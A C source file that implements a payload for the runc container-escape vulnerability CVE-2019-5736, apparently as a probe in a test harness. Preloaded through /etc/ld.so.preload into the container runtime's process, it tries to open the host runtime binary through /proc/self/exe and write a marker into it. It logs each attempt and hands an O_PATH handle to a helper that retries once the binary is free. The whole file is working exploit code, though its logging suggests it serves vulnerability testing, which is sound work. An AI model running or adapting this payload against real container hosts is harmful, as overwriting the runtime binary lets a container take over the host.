/* CVE-2019-5736 payload: preloaded (through the image's /etc/ld.so.preload) into the runtime
 * binary that the kernel runs as the interpreter of a `#!/proc/self/exe` entrypoint, i.e. code of
 * the image running inside the runtime's own process. It tries to get a writable handle on the
 * binary and write to it, records each attempt in /out/<TAG>.log, then hands an O_PATH handle
 * to /probe, which retries once the runtime's image is no longer executing. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void rec(const char *fmt, ...) {
    char path[128], line[512];
    const char *tag = getenv("TAG");
    snprintf(path, sizeof path, "/out/%s.log", tag ? tag : "untagged");
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line - 1, fmt, ap);
    va_end(ap);
    line[n++] = '\n';
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) {
        (void)write(fd, line, n);
        close(fd);
    }
}

static void try_write(const char *what, const char *path, int mode) {
    int fd = open(path, mode | O_CLOEXEC);
    if (fd < 0) {
        rec("%s=open:%d", what, errno);
        return;
    }
    ssize_t w = write(fd, "PWNED", 5);
    if (w > 0)
        rec("%s=open:ok write:ok", what);
    else
        rec("%s=open:ok write:%d", what, errno);
    close(fd);
}

__attribute__((constructor)) static void payload(void) {
    char exe[256] = {0};
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0)
        snprintf(exe, sizeof exe, "unreadable:%d", errno);
    rec("exe=%s", exe);
    try_write("self_rdwr", "/proc/self/exe", O_RDWR);
    try_write("self_wronly", "/proc/self/exe", O_WRONLY);
    int keep = open("/proc/self/exe", O_PATH);
    if (keep < 0) {
        rec("opath=%d", errno);
        _exit(1);
    }
    /* Lets a second process of the container (the watcher) find us running the runtime. */
    sleep(1);
    char fd[16];
    snprintf(fd, sizeof fd, "%d", keep);
    execl("/probe", "/probe", "reopen", fd, (char *)NULL);
    rec("exec_probe=%d", errno);
    _exit(1);
}
